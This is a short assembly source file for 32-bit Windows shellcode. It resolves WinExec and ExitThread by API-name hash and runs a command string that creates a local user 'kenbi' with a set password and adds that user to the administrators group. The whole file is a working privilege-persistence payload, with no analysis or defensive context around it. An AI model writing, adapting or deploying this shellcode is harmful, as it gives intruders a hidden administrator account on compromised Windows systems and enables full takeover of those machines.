; Windows, 32 bit: a new administrator, by two commands.
bits 32
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH win_exec, 'WinExec'
HASH exit_thread, 'ExitThread'
        RESOLVER
        push byte 0
        lea edx, AT(command)
        push edx
        CALL_API ebx, win_exec
        push byte 0
        CALL_API ebx, exit_thread
command: db 'cmd.exe /c net user kenbi Example1 /add && net localgroup administrators kenbi /add', 0
